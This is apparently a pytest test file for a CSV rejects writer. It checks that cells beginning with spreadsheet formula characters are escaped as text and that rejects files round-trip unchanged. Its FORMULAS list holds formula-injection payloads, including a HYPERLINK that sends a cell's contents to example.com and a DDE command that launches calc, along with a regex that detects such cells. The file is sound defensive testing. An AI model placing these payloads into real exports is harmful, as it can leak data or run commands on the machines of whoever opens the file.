"""The rejects file: no cell of it is a formula to a spreadsheet, and a replay reads it back as it was."""

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conveyor.replay.book import Book, Reject
from conveyor.replay.cells import as_text, from_text
from conveyor.replay.opened import read_book
from conveyor.replay.rejects import write_rejects

HEADER = "InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country"
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1),MUG,x,1,,1,,',
    "+1+cmd,MUG,x,1,,1,,",
    "@SUM(A1),MUG,x,1,,1,,",
    "-2+3,MUG,x,1,,1,,",
    "\tA1,MUG,x,1,,1,,",
    "'=A1,MUG,x,1,,1,,",
    "''-A1,MUG,x,1,,1,,",
    "'-5,MUG,x,1,,1,,",
    "A1,=MUG,x,1,,1,,",
    'A1,"=MUG;=2",x,-12,,1,,',
    "A1;=cmd|' /C calc'!A0;x",
    "\uff1dA1,MUG,x,1,,1,,",
]
_text = st.text(st.one_of(st.sampled_from("=+-@'\t,;|\"\n 19."), st.characters(codec="utf-8")), max_size=20)
#: A cell that a spreadsheet would run; a number is none.
RUN = re.compile(r"(?!-\d+([.,]\d+)*\Z)[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def cells(text: str) -> list[str]:
    """What a spreadsheet makes of a text, whichever character it separates by."""
    return [cell for separator in ",;\t|\n" for cell in text.split(separator)]


@given(_text)
def test_what_is_written_as_text_is_read_back_as_it_was(text: str) -> None:
    assert from_text(as_text(text)) == text


@given(_text)
def test_no_cell_of_a_text_is_run(text: str) -> None:
    assert [cell for cell in cells(as_text(text)) if cell and RUN.match(cell)] == []


@pytest.mark.parametrize("cell", ["-12", "-1.50", "-1,5", "5", "", "MUG - RED", "A1,MUG,x,-12,,-7.5,,", "O'Neill"])
def test_a_number_and_a_harmless_text_stay_as_they_are(cell: str) -> None:
    assert as_text(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert as_text(cell) != cell


def rejects_of(book: Book, file: Path) -> bytes:
    write_rejects(file, book.header, book.rejects, fallback=file)
    return file.read_bytes()


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_replay_reads_its_own_rejects_back_unchanged(separator: str, tmp_path: Path) -> None:
    lines = [line.replace(",", separator) for line in ("a title above it", HEADER, *FORMULAS, "A1,POST,x,1,,1,,")]
    lines.append(f'A2{separator}POST{separator}"a field{separator} of "" two\nlines"{separator * 5}')
    first = read_book("\n".join(lines).encode())
    again = read_book(rejects_of(first, tmp_path / "rejects.csv"))
    assert [each.text for each in first.rejects][-1].endswith(f'lines"{separator * 5}')
    assert [(each.reason, each.text) for each in again.rejects] == [(each.reason, each.text) for each in first.rejects]
    assert again.header.text == first.header.text
    assert rejects_of(again, tmp_path / "again.csv").split(b"\n", 1)[0] == b"line,reason,text"


def test_rejects_that_a_spreadsheet_saved_with_semicolons_are_read_too(tmp_path: Path) -> None:
    book = read_book(f"{HEADER}\n=A1,MUG,x,0,,1,,\n".encode())
    with (tmp_path / "rejects.csv").open("w+", newline="") as saved:
        rows = csv.reader(rejects_of(book, tmp_path / "first.csv").decode().splitlines())
        csv.writer(saved, delimiter=";").writerows(rows)
        saved.seek(0)
        assert read_book(saved.read().encode()).rejects == [Reject(2, "the quantity is zero: 0", "=A1,MUG,x,0,,1,,")]


def test_reasons_that_quote_the_file_are_text_too(tmp_path: Path) -> None:
    file = tmp_path / "rejects.csv"
    write_rejects(file, Reject(1, "names the columns", HEADER), [Reject(2, "=1+1", "@x")], fallback=file)
    assert file.read_text().splitlines()[2] == "2,'=1+1,'@x"
